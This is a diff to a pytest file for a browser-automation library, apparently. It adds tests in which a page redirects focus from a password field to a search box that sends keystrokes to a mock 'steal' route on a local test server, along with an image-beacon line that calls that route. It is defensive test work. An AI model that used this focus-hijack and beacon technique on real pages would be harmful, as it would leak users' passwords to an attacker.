@@ -11,7 +11,7 @@ import io
 import re
 
 import pytest
-from _server import Response
+from _server import Request, Response
 from PIL import Image
 
 from stagehand_py import Action, ActionFailedError, ElementNotFoundError
@@ -158,11 +158,41 @@ OLD_FOCUS_CHECK = """el => { el.focus(); const active = el.getRootNode().activeE
   return active === el || el.contains(active); }"""
 
 
+class Stolen(list[str]):
+    """The ``q`` of each request the hostile host's steal address (``url``) received."""
+
+    url = ""
+
+
+@pytest.fixture
+def stolen(cross_server, request):
+    """What the search box sent to the hostile host, at an address of this test's own (a request
+    a previous test's page sent late cannot land here)."""
+    values = Stolen()
+    path = "/steal-" + re.sub(r"\W", "-", request.node.name)
+    values.url = cross_server.url(path.lstrip("/"))
+
+    def steal(req: Request) -> Response:
+        values.append(req.query.get("q", ""))
+        return Response(204, "", "text/plain")
+
+    with cross_server.route(path, steal):
+        yield values
+
+
+async def _until(page, done) -> None:
+    """Wait for ``done()`` (the hostile server recording a request), checking every 0.1 s (30 s at most)."""
+    for _ in range(300):
+        if done():
+            return
+        await page.wait_for_timeout(100)
+
+
 @pytest.mark.parametrize("method", ["fill", "type", "press"])
-async def test_control_unguarded_keys_follow_the_redirected_focus(new_stagehand, cross_server, hostile, method) -> None:
+async def test_control_unguarded_keys_follow_the_redirected_focus(new_stagehand, cross_server, stolen, method) -> None:
     sh = await new_stagehand()
     await sh.page.goto(cross_server.url("index.html"))  # any page; the attack is set as content
-    await sh.page.set_content(_redirecting_page(cross_server.url("steal")))
+    await sh.page.set_content(_redirecting_page(stolen.url))
     pw = await sh.page.query_selector("#pw")
     if method == "fill":
         await pw.fill(SECRET)
@@ -173,20 +203,25 @@ async def test_control_unguarded_keys_follow_the_redirected_focus(new_stagehand,
         await pw.press("x")
     expected = SECRET if method != "press" else "x"
     assert await sh.page.input_value("#search") == expected and await sh.page.input_value("#pw") == ""
+    await _until(sh.page, lambda: expected in stolen)
+    assert expected in stolen  # ... and the search box sent them to the other host
 
 
 @pytest.mark.parametrize("method", ["fill", "type", "press"])
-async def test_keys_never_follow_a_redirected_focus(new_stagehand, cross_server, hostile, method) -> None:
+async def test_keys_never_follow_a_redirected_focus(new_stagehand, cross_server, stolen, method) -> None:
     sh = await new_stagehand()
     await sh.page.goto(cross_server.url("index.html"))
-    await sh.page.set_content(_redirecting_page(cross_server.url("steal")))
+    await sh.page.set_content(_redirecting_page(stolen.url))
     argument = "%secret%" if method != "press" else "x"
     with pytest.raises(ActionFailedError, match="did not keep the focus") as info:
         await execute_action(sh.page, Action(selector="xpath=/html[1]/body[1]/form[1]/input[1]", method=method,
                                              arguments=[argument]), variables=VariableSet.of({"secret": SECRET}))
     assert SECRET not in str(info.value)
     assert await sh.page.input_value("#search") == "" and await sh.page.input_value("#pw") == ""
-    assert not [hit for hit in hostile if "q=" in hit and not hit.endswith("q=")]
+    # The page's own last word to the other host: once it arrives, a key sent before it has too.
+    await sh.page.evaluate("(url) => { new Image().src = url + '?q=sentinel'; }", stolen.url)
+    await _until(sh.page, lambda: "sentinel" in stolen)
+    assert [value for value in stolen if value not in ("", "sentinel")] == [] and "sentinel" in stolen
 
 
 async def test_type_stops_when_the_focus_moves_between_characters(new_stagehand) -> None:
